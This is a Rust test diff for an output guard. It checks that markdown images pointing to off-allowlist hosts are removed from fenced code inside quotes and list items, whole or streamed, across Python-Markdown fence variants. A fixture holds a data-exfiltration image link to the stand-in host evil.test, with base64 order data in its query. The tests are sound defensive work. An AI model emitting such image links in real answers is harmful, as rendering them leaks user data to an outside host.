@@ -700,13 +700,92 @@ fn a_fence_left_open_at_the_end_is_closed() {
         assert_eq!(stream_outcome(&g, request(None), &chunks).unwrap(), closed);
         released_validates_clean(&g, &answer);
     }
-    // A closed fence, and one inside a quote (closed by the quote's end), stay.
+    // A closed fence stays; one inside a quote is closed by the quote's end (its
+    // image is judged: `fenced_code_only_in_the_form_every_renderer_reads_is_inert`).
+    let answer = format!("```\n{image}\n```\n");
+    let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
+    assert_eq!(c.response().text(), answer);
+    let answer = format!("> ```\n> {image}\n");
+    let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
+    assert_eq!(ids(c.findings()), ["link.image_off_allowlist"]);
+}
+
+/// Python-Markdown (and the renderers built on it) reads fenced code only at the
+/// top level, from the start of a line, with a one-word info string, up to the
+/// same fence; anywhere else its fences are text and the images between them load
+/// (checked with Python-Markdown 3.11.3, `extra`). Code is inert only in that
+/// form: a top-level block is given it, whole or streamed, and the content of a
+/// block inside a quote or a list item is judged as markdown.
+#[test]
+fn fenced_code_only_in_the_form_every_renderer_reads_is_inert() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
+    let prose = "Plain prose about the order and its delivery window. ".repeat(24);
+    let outcomes = |answer: &str| {
+        let whole = whole_outcome(&g, request(None), answer).unwrap();
+        for n in [7, 101] {
+            let chunks: Vec<&str> = answer
+                .as_bytes()
+                .chunks(n)
+                .map(|c| std::str::from_utf8(c).unwrap())
+                .collect();
+            assert_eq!(stream_outcome(&g, request(None), &chunks).unwrap(), whole);
+        }
+        released_validates_clean(&g, answer);
+        whole
+    };
+    // Inside a container: the image goes, in the code or in the info string (the
+    // fences and the code stay).
+    let nest = |depth: usize| {
+        let mut lines = vec![format!("a {image} b")];
+        for _ in 0..depth {
+            let mut outer = vec!["> ~~~".to_owned()];
+            outer.extend(lines.iter().map(|l| format!("> {l}")));
+            outer.push("> ~~~".to_owned());
+            lines = outer;
+        }
+        lines.join("\n") + "\n"
+    };
     for answer in [
-        format!("```\n{image}\n```\n"),
-        format!("> ```\n> {image}\n"),
+        format!("> ~~~\n> {image}\n> ~~~\n"),
+        format!("> ```\n> {image}\n>\n> ```\n"),
+        format!("1. Step:\n   ~~~sh\n   run {image} now\n   ~~~\n2. Next"),
+        format!("> ~~~{image}\n> code\n> ~~~\n"),
+        format!("{prose}\n\n- ```\n  {prose}\n  {image}\n  ```\n"),
+        nest(3),
+        nest(6),
     ] {
-        let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
-        assert_eq!(c.response().text(), answer);
+        let out = outcomes(&answer);
+        assert!(!out.contains("evil.test"), "{answer:?} -> {out:?}");
+        assert!(out.contains("~~~") || out.contains("```"), "{out:?}");
+    }
+    // At the top level: the fence lines are rewritten, the code stays.
+    for (answer, fixed) in [
+        ("  ~~~\nIMG\n  ~~~\n", "~~~\nIMG\n~~~\n"),
+        ("~~~python title=x\nIMG\n~~~\n", "~~~python\nIMG\n~~~\n"),
+        (
+            "```js {1,3}\n<script>x()</script>\n```\n",
+            "```js\n<script>x()</script>\n```\n",
+        ),
+        ("~~~\nIMG\n~~~~\n", "~~~\nIMG\n~~~\n"),
+        ("````\nIMG\n ````\t\n", "````\nIMG\n````\n"),
+        (
+            "PROSE\n\n```\nPROSE\nIMG\n `````\nafter\n",
+            "PROSE\n\n```\nPROSE\nIMG\n```\nafter\n",
+        ),
+    ] {
+        let answer = answer.replace("IMG", image).replace("PROSE", &prose);
+        let fixed = fixed.replace("IMG", image).replace("PROSE", &prose);
+        assert_eq!(outcomes(&answer), fixed, "{answer:?}");
+    }
+    // The forms Python-Markdown reads are left alone.
+    for answer in [
+        format!("```python\n{image}\n```\n"),
+        format!("~~~ .js\n{image}\n~~~  \n"),
+        format!("```{{.py #id}}\n{image}\n```\n"),
+        format!("```py hl_lines=\"1 2\"\n{image}\n```\n"),
+    ] {
+        assert_eq!(outcomes(&answer), answer);
     }
 }
 
